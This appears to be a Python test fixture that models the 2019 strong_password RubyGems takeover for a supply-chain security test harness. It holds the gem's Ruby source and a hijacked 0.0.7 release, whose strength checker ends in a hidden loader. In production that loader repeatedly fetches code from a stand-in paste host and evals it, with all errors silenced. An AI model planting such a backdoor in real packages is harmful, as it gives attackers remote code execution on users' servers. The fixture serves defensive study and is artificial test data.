"""strong_password 0.0.7 (RubyGems, 2019-06-25): a taken gem; in production it evaluates code from a paste site, again and again.

By the record: a project silent for years, whose owner's password was weak or reused; a release that the repository does not have.
When it is required in production a thread fetches code and evaluates it. Three days later a user who read the difference told of it.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_ENTRY = """require 'strong_password/version'
require 'strong_password/entropy_calculator'
require 'strong_password/strength_checker'

module StrongPassword
end
"""
_ENTROPY = """module StrongPassword
  module EntropyCalculator
    EXTRA_BITS = [8, 6, 4, 3, 2].freeze

    def self.calculate(password, repeats_weakened = true)
      repeats_weakened ? weakened(password) : plain(password.length)
    end

    def self.bits(index)
      case index
      when 0 then 4.0
      when 1..7 then 2.0
      when 8..19 then 1.5
      else 1.0
      end
    end

    def self.plain(length)
      (0...length).inject(0) { |sum, index| sum + bits(index) }
    end

    def self.weakened(password)
      seen = Hash.new(1.0)
      password.chars.each_with_index.inject(0) do |sum, (char, index)|
        weight = seen[char]
        seen[char] = [weight * 0.75, 0.1].max
        sum + bits(index) * weight
      end
    end
  end
end
"""
_CHECKER = """module StrongPassword
  class StrengthChecker
    BASE_ENTROPY = 18

    def initialize(min_entropy: BASE_ENTROPY, min_word_length: 4, extra_dictionary_words: [])
      @min_entropy = min_entropy
      @min_word_length = min_word_length
      @words = extra_dictionary_words.map(&:downcase)
    end

    def is_strong?(password)
      base = password.dup
      weak = @words.any? { |word| word.length >= @min_word_length && base.downcase.include?(word) }
      !weak && calculate_entropy(base) >= @min_entropy
    end

    def is_weak?(password)
      !is_strong?(password)
    end

    def calculate_entropy(password)
      EntropyCalculator.calculate(password)
    end
  end
end
"""
_LOADER = """
def _!;
  begin;
    yield;
  rescue Exception;
  end;
end
_! {
  Thread.new {
    loop {
      _! {
        sleep rand * 3333;
        eval(Net::HTTP.get(URI('https://paste.invalid/raw/marker')))
      }
    }
  } if Rails.env[0] == "p"
}
"""


def _files(version: str, checker: str = _CHECKER) -> dict[str, str]:
    return {
        "lib/strong_password.rb": _ENTRY,
        "lib/strong_password/version.rb": f'module StrongPassword\n  VERSION = "{version}"\nend\n',
        "lib/strong_password/entropy_calculator.rb": _ENTROPY,
        "lib/strong_password/strength_checker.rb": checker,
    }


def _release(version: str, at: str) -> Release:
    return Release(version=version, at=utc(at), files=_files(version))


_BAD = Release(version="0.0.7", at=utc("2019-06-25T12:00:00Z"), files=_files("0.0.7", _CHECKER + _LOADER))

INCIDENT = Incident(
    id="strong_password-2019",
    title=(
        "an attacker took over strong_password, a dormant gem; in production, a thread downloaded code from a paste "
        "site and evaluated it"
    ),
    copy="our copy of strong_password has the same thread, with a paste host that does not exist",
    ecosystem=Ecosystem.RUBYGEMS,
    at=_BAD.at,
    packages=(
        Package(
            name="strong_password",
            releases=(
                _release("0.0.4", "2015-06-15T12:00:00Z"),
                _release("0.0.5", "2015-12-14T12:00:00Z"),
                _release("0.0.6", "2018-01-19T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={"strong_password": "~> 0.0.6"},
    good={"strong_password": "0.0.6"},
    bad={"strong_password": ("0.0.7",)},
    guilty={"strong_password": ("0.0.7",)},
    gone_at=utc("2019-06-28T12:00:00Z"),
    advisory=Advisory(
        id="CVE-2019-13354", at=utc("2019-07-08T12:00:00Z"), about={"strong_password": ("0.0.7",)}
    ),
    invented="publish hours, days of earlier releases and the day of the advisory; dependencies are left out",
)
